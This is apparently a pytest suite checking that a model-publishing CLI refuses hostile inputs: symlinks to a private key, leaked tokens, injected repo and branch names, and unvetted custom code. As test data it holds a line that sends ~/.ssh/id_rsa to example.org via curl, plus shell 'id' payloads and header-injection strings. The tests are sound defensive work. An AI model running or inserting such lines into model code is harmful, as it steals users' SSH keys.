"""`hf-norms push` against hostile folders and inputs: symbolic links, the token in what is published, short tokens,
bad repo ids and branch names, missing folders, include/exclude patterns, and code that is not hf-norms' own (an edited
or extra `.py` file, an `auto_map` in any config naming other code). Each refusal is checked on the loopback Hub
(nothing uploaded, no repo created) and on disk (no local file changed)."""

from __future__ import annotations

import hashlib
import json
import logging
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from huggingface_hub import HfApi, hf_hub_download
from huggingface_hub.utils import filter_repo_objects

from hf_norms import cli
from hf_norms.hub.publish import CheckpointRefused, push_to_hub

TOKEN = "hf_push-security-secret-0815"

pytestmark = pytest.mark.usefixtures("hub_online")


@pytest.fixture
def checkpoint(saved_checkpoint: Path, tmp_path: Path) -> Path:
    """A fresh copy of the checkpoint inside `tmp_path/work`, next to a private key at `tmp_path/outside/id_rsa`."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    return Path(shutil.copytree(saved_checkpoint, tmp_path / "work" / "vit"))


def disk_state(root: Path) -> dict[str, str]:
    """sha256 of every file under `root`, links followed, keyed by path (links marked with their target)."""
    state = {}
    for path in sorted(root.rglob("*")):
        key = path.relative_to(root).as_posix() + (f" -> {os.readlink(path)}" if path.is_symlink() else "")
        state[key] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "folder or dangling"
    return state


def assert_refused_and_nothing_uploaded(api: HfApi, repo_id: str, root: Path, match: str, **push_args) -> str:
    """Push `root/work/vit` to `repo_id`, expect CheckpointRefused matching `match`, and check that the repo's files
    and every file under `root` (the folder and what its links lead to) are unchanged; returns the message."""
    before_remote = set(api.list_repo_files(repo_id)) if api.repo_exists(repo_id) else None
    before_disk = disk_state(root)
    with pytest.raises(CheckpointRefused, match=match) as excinfo:
        push_to_hub(root / "work" / "vit", repo_id, endpoint=api.endpoint, **{"token": TOKEN, **push_args})
    after_remote = set(api.list_repo_files(repo_id)) if api.repo_exists(repo_id) else None
    assert after_remote == before_remote and disk_state(root) == before_disk
    message = str(excinfo.value)
    assert "\n" not in message and TOKEN not in message
    return message


def dry_run_files(checkpoint: Path, **push_args) -> list[str]:
    return push_to_hub(checkpoint, "org/patterns", token=TOKEN, dry_run=True, **push_args)


# --------------------------------------------------------------------------------------------------------------------
# Symbolic links
# --------------------------------------------------------------------------------------------------------------------


def test_a_link_to_a_file_outside_the_folder_is_refused(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
    push_to_hub(checkpoint, "org/links", endpoint=api.endpoint, token=TOKEN)  # an existing repo, to compare against
    (checkpoint / "notes.txt").symlink_to(tmp_path / "outside" / "id_rsa")
    assert "notes.txt" not in dry_run_files(checkpoint)  # not uploaded, so it refuses nothing
    message = assert_refused_and_nothing_uploaded(api, "org/links", tmp_path, "notes.txt", include=["notes.txt"])
    assert "outside the folder" in message
    (checkpoint / "notes.txt").unlink()
    (checkpoint / "sub").mkdir()
    (checkpoint / "sub" / "deep.txt").symlink_to("../../../outside/id_rsa")  # relative, from a subfolder
    assert_refused_and_nothing_uploaded(api, "org/links", tmp_path, "sub/deep.txt", include=["sub/"])
    (checkpoint / "conversion_report.png").symlink_to(tmp_path / "outside" / "id_rsa")  # a checkpoint file's name
    assert_refused_and_nothing_uploaded(api, "org/links-new", tmp_path, "conversion_report.png")  # nor is it created


@pytest.mark.parametrize("kind", ["folder inside", "folder outside", "dangling", "loop"])
def test_links_to_folders_and_links_to_nothing_are_refused(
    kind: str, checkpoint: Path, api: HfApi, tmp_path: Path
) -> None:
    link = checkpoint / "extra"
    if kind == "folder inside":
        (checkpoint / "data").mkdir()
        (checkpoint / "data" / "a.txt").write_text("a")
        link.symlink_to("data")
    elif kind == "folder outside":
        link.symlink_to(tmp_path / "outside")
    elif kind == "dangling":
        link.symlink_to(checkpoint / "missing.txt")
    else:
        link.symlink_to("extra")
    assert_refused_and_nothing_uploaded(api, "org/link-kinds", tmp_path, "extra", include=["extra"])


def test_a_link_to_a_file_inside_the_folder_is_uploaded_as_that_file(
    checkpoint: Path, api: HfApi, tmp_path: Path
) -> None:
    (checkpoint / "notes-v1.txt").write_text("first notes")
    (checkpoint / "notes.txt").symlink_to("notes-v1.txt")
    (checkpoint / "keys.txt").symlink_to(".env")  # read as the file it leads to: a secret, left out
    (checkpoint / ".env").write_text("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
    push_to_hub(checkpoint, "org/inside-link", endpoint=api.endpoint, token=TOKEN, include=["*.txt", ".env"])
    remote = set(api.list_repo_files("org/inside-link"))
    assert {"notes.txt", "notes-v1.txt"} <= remote and not {"keys.txt", ".env"} & remote
    path = hf_hub_download("org/inside-link", "notes.txt", endpoint=api.endpoint, token=TOKEN, cache_dir=tmp_path / "c")
    assert Path(path).read_text() == "first notes"


# --------------------------------------------------------------------------------------------------------------------
# The token, short tokens, repo ids, missing folders
# --------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("push_args", "where"),
    [
        ({"commit_message": f"pushed with {TOKEN}"}, "the commit message"),
        ({"revision": TOKEN}, "the branch name"),
        ({"notes": [f"made with {TOKEN}"]}, "README.md"),
    ],
)
def test_the_token_in_anything_published_is_refused(
    push_args: dict, where: str, checkpoint: Path, api: HfApi, tmp_path: Path
) -> None:
    assert_refused_and_nothing_uploaded(api, "org/token-text", tmp_path, where, **push_args)


def test_the_token_in_a_linked_file_is_refused(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
    (checkpoint / "log.txt").write_text(f"login {TOKEN}")
    (checkpoint / "latest.txt").symlink_to("log.txt")
    message = assert_refused_and_nothing_uploaded(api, "org/token-link", tmp_path, "latest.txt", include=["*.txt"])
    assert "log.txt" in message


@pytest.mark.parametrize("short", ["x", "hf_1234"])
def test_a_short_token_is_refused_not_matched(short: str, checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
    message = assert_refused_and_nothing_uploaded(api, "org/short", tmp_path, "too short", token=short)
    assert f"{len(short)} characters" in message


@pytest.mark.parametrize("repo_id", ["../evil", "org/../evil", "a/b/c", "org/name\nX-Injected: 1", "org/-x", ""])
def test_a_bad_repo_id_is_one_line_on_the_command_line(
    repo_id: str, checkpoint: Path, api: HfApi, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    monkeypatch.setenv("HF_ENDPOINT", api.endpoint)
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    assert cli.main(["push", repo_id, str(checkpoint)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("hf-norms push: error: ") and "is not a Hub repo id" in err
    assert "Traceback" not in err


def test_a_missing_folder_is_one_line_on_the_command_line(
    tmp_path: Path, api: HfApi, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    monkeypatch.setenv("HF_ENDPOINT", api.endpoint)
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    assert cli.main(["push", "org/missing", str(tmp_path / "nowhere")]) == 2
    err = capsys.readouterr().err
    assert (
        err == f"hf-norms push: error: {tmp_path / 'nowhere'} does not exist; give the folder a model was saved to.\n"
    )
    assert not api.repo_exists("org/missing")


@pytest.mark.parametrize(
    "revision",
    ["dev\nX-Injected: 1", "../main", "a/../b", "dev..x", "dev x", "dev.lock", "-dev", "a//b", ".hidden", "a/.b",
     "dev/", "dev.", "a\x00b", "a\tb", "dev~1", "dev^", "a:b", "a@{1}", "a*b", "a?b", "a[b", "a\\b", ""],
)  # fmt: skip
def test_a_bad_branch_name_is_refused_before_any_request(
    revision: str, checkpoint: Path, api: HfApi, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    """A branch name git refuses (control characters, `..`, ...) is one line, exit 2, before the repo is created."""
    monkeypatch.setenv("HF_ENDPOINT", api.endpoint)
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    assert cli.main(["push", "org/bad-branch", str(checkpoint), f"--revision={revision}"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("hf-norms push: error: ") and "is not a branch name" in err
    assert not api.repo_exists("org/bad-branch")


def test_branch_names_git_accepts_are_pushed(checkpoint: Path, api: HfApi) -> None:
    for revision in ("dev", "v1.0", "release_2026-01", "DTN.gates"):
        push_to_hub(checkpoint, "org/good-branches", endpoint=api.endpoint, token=TOKEN, revision=revision)
    branches = {branch.name for branch in api.list_repo_refs("org/good-branches").branches}
    assert branches == {"main", "dev", "v1.0", "release_2026-01", "DTN.gates"}


# --------------------------------------------------------------------------------------------------------------------
# Include and exclude patterns
# --------------------------------------------------------------------------------------------------------------------


def test_include_and_exclude_pick_files_as_hf_upload_does(checkpoint: Path) -> None:
    """Patterns match as `hf upload` matches them (`*` crosses `/`, `sub/` is a folder); the checkpoint's files are the
    base, `include` adds to it, `exclude` removes (README.md is the card); `include_skipped` is an include of a path."""
    (checkpoint / "logs").mkdir()
    (checkpoint / "logs" / "run.txt").write_text("loss 0.1")
    (checkpoint / "notes.txt").write_text("notes")
    base = dry_run_files(checkpoint)
    assert {"config.json", "model.safetensors", "README.md", "modeling_vit_norm.py"} <= set(base)
    assert not {"logs/run.txt", "notes.txt"} & set(base)
    assert dry_run_files(checkpoint, include="*.txt") == sorted([*base, "logs/run.txt", "notes.txt"])
    assert dry_run_files(checkpoint, include=["logs/"]) == sorted([*base, "logs/run.txt"])
    assert dry_run_files(checkpoint, include_skipped=["notes.txt"]) == sorted([*base, "notes.txt"])
    cases = [(["*.txt"], ["logs/", "*.py"]), (None, ["README.md", "*.json"]), (["notes.txt"], ["norm_*"])]
    for include, exclude in cases:  # what is left: huggingface_hub's filter, as `hf upload --exclude` applies it
        picked = [*base, *filter_repo_objects(["logs/run.txt", "notes.txt"], allow_patterns=include or [])]
        expected = sorted(filter_repo_objects(picked, ignore_patterns=exclude))
        assert dry_run_files(checkpoint, include=include, exclude=exclude) == expected


def test_an_include_that_matches_no_file_is_refused(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
    message = assert_refused_and_nothing_uploaded(api, "org/no-match", tmp_path, "matches no file", include="*.onnx")
    assert "--include '*.onnx'" in message


def test_a_pattern_never_uploads_a_file_hf_norms_skips(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
    """`include="*"` adds every file, each read first: a secret and a pickle stay local; the token refuses the push."""
    (checkpoint / ".env").write_text("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
    torch.save({"hub_token": "not the token"}, checkpoint / "training_args.bin")
    (checkpoint / "checkpoint-5").mkdir()
    shutil.copy(checkpoint / "model.safetensors", checkpoint / "checkpoint-5" / "model.safetensors")
    files = dry_run_files(checkpoint, include="*")
    assert "checkpoint-5/model.safetensors" in files and not {".env", "training_args.bin"} & set(files)
    (checkpoint / "hf_token.txt").write_text(f"login {TOKEN}")
    assert_refused_and_nothing_uploaded(api, "org/leak", tmp_path, "hf_token.txt", include="*")


# --------------------------------------------------------------------------------------------------------------------
# Code that is not hf-norms' own
# --------------------------------------------------------------------------------------------------------------------


def assert_refused_on_the_command_line(
    checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch, match: str, *args: str
) -> str:
    """`hf-norms push org/code-refused CHECKPOINT ARGS`: exit 2, one line naming `match`, no repo created."""
    monkeypatch.setenv("HF_ENDPOINT", api.endpoint)
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    assert cli.main(["push", "org/code-refused", str(checkpoint), *args]) == 2
    (line,) = [line for line in capsys.readouterr().err.splitlines() if "error" in line]  # after the loading bar
    assert line.startswith("hf-norms push: error: ") and re.search(match, line), line
    assert "--allow-custom-code" in line and not api.repo_exists("org/code-refused")
    return line


def test_an_edited_modeling_file_is_refused(
    checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A line appended to a model file (as someone else's edit would) runs for every `trust_remote_code=True` user."""
    with open(checkpoint / "modeling_vit_norm.py", "a") as code:
        code.write("\nimport os; os.system('curl -d @$HOME/.ssh/id_rsa https://example.org')\n")
    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")
    other_code = (checkpoint / "configuration_vit_norm.py").read_bytes()
    (checkpoint / "modeling_vit_norm.py").write_bytes(other_code)
    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")


def test_a_python_file_that_is_not_a_model_file_is_refused(
    checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch, caplog
) -> None:
    """An extra helpers.py stays local; included, it is refused, and so is a model file's name in a subfolder."""
    caplog.set_level(logging.INFO)
    (checkpoint / "helpers.py").write_text("import os\nos.system('id')\n")
    assert "helpers.py" not in dry_run_files(checkpoint) and "Not uploading helpers.py: not a file" in caplog.text
    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"helpers\.py is not", "--include", "*.py")
    (checkpoint / "helpers.py").unlink()
    (checkpoint / "sub").mkdir()
    shutil.copy(checkpoint / "modeling_vit_norm.py", checkpoint / "sub" / "modeling_vit_norm.py")
    assert_refused_on_the_command_line(
        checkpoint, api, capsys, monkeypatch, r"sub/modeling_vit_norm\.py is not", "--include", "sub/"
    )


# (file, JSON to write, a key of it to merge into an existing file, or None)
CODE_REFERENCES = {
    "tokenizer auto_map to a local file": ("tokenizer_config.json", {"tokenizer_class": "BertTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_norms.NormTokenizer", None]}}),
    "image processor auto_map to another repo": ("preprocessor_config.json", {"auto_map": {"AutoImageProcessor": "someone/processors--image_processing.Processor"}}),
    "config auto_map with an extra entry": ("config.json", {"auto_map": {"AutoTokenizer": "tokenization_norms.NormTokenizer"}}),
    "config auto_map entry pointing at another repo": ("config.json", {"auto_map": {"AutoModelForCausalLM": "someone/repo--modeling_vit_norm.ViTNormModel"}}),
    "config custom pipeline": ("config.json", {"custom_pipelines": {"feature-extraction": {"impl": "pipeline_norms.Pipe", "pt": ["AutoModel"]}}}),
    "auto_map nested in a processor config": ("generation_config.json", {"processor": {"auto_map": {"AutoProcessor": "processing_norms.Proc"}}}),
    "sentence-transformers module of custom code": ("modules.json", [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pool", "type": "pooling_norms.Pool"}]),
}  # fmt: skip


@pytest.mark.parametrize("case", CODE_REFERENCES)
def test_a_config_naming_code_that_is_not_hf_norms_is_refused(
    case: str, checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    name, written = CODE_REFERENCES[case]
    path = checkpoint / name
    if path.is_file():  # merge into the checkpoint's own file, keeping what it needs to load
        old = json.loads(path.read_text())
        written = {**old, **written, "auto_map": {**old.get("auto_map", {}), **written.get("auto_map", {})}}
    path.write_text(json.dumps(written))
    (checkpoint / "tokenization_norms.py").write_text("import os\nos.system('id')\n")  # left out, but named
    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, rf"{re.escape(name)} names code")


def test_allow_custom_code_publishes_it_and_the_card_says_so(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
    with open(checkpoint / "modeling_vit_norm.py", "a") as code:
        code.write("\n# a local change\n")
    (checkpoint / "helpers.py").write_text("HELP = 1\n")
    config = json.loads((checkpoint / "preprocessor_config.json").read_text())
    config["auto_map"] = {"AutoImageProcessor": "helpers.Processor"}
    (checkpoint / "preprocessor_config.json").write_text(json.dumps(config))
    push_to_hub(checkpoint, "org/custom", endpoint=api.endpoint, token=TOKEN, include="helpers.py",
                allow_custom_code=True)  # fmt: skip
    assert {"helpers.py", "modeling_vit_norm.py", "preprocessor_config.json"} <= set(api.list_repo_files("org/custom"))
    card = Path(hf_hub_download("org/custom", "README.md", endpoint=api.endpoint, token=TOKEN, cache_dir=tmp_path))
    text = card.read_text()
    assert "This repository holds code that is not hf-norms' own" in text and "trust_remote_code=True" in text
    assert '"helpers.py", "modeling_vit_norm.py", "preprocessor_config.json"' in text
    assert "Do not load this repository with `trust_remote_code=True`" in text
    assert not re.search(r"\(.*trust_remote_code=True.*\)", text) and "trust_remote_code=False)" in text


LOAD_AS_THE_CARD_SAYS = """
import json, sys
import hf_norms
from PIL import Image
from transformers import AutoModel, pipeline
repo, trust = sys.argv[1], json.loads(sys.argv[2])
kwargs = {"trust_remote_code": trust}
model = AutoModel.from_pretrained(repo, **kwargs)
features = pipeline("image-feature-extraction", model=repo, **kwargs)(Image.new("RGB", (32, 32)))
print(json.dumps({"model": type(model).__module__, "features": len(features[0])}))
"""


def test_custom_code_loaded_as_its_card_says_never_runs(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
    """The card of a repo with custom code says: `import hf_norms` and `trust_remote_code=False`. Loaded so, by model
    and by pipeline in a fresh process, the repo's image processor code does not run; with `trust_remote_code=True` it
    does."""
    marker = tmp_path / "ran"
    (checkpoint / "image_processing_norms.py").write_text(
        f"open({str(marker)!r}, 'w').write('ran')\nfrom transformers import ViTImageProcessor as Processor\n"
    )
    config = json.loads((checkpoint / "preprocessor_config.json").read_text())
    config["auto_map"] = {"AutoImageProcessor": "image_processing_norms.Processor"}
    (checkpoint / "preprocessor_config.json").write_text(json.dumps(config))
    push_to_hub(checkpoint, "org/custom-processor", endpoint=api.endpoint, token=TOKEN, include="*.py",
                allow_custom_code=True)  # fmt: skip
    env = {**os.environ, "HF_ENDPOINT": api.endpoint, "HF_TOKEN": TOKEN, "HF_HUB_OFFLINE": "0"}
    for trust in (False, True):
        env["HF_HOME"] = str(tmp_path / f"home-{trust}")
        done = subprocess.run([sys.executable, "-c", LOAD_AS_THE_CARD_SAYS, "org/custom-processor", json.dumps(trust)],
                              env=env, capture_output=True, text=True, timeout=300)  # fmt: skip
        assert done.returncode == 0, done.stderr[-3000:]
        assert json.loads(done.stdout.splitlines()[-1])["features"] > 0 and marker.exists() == trust
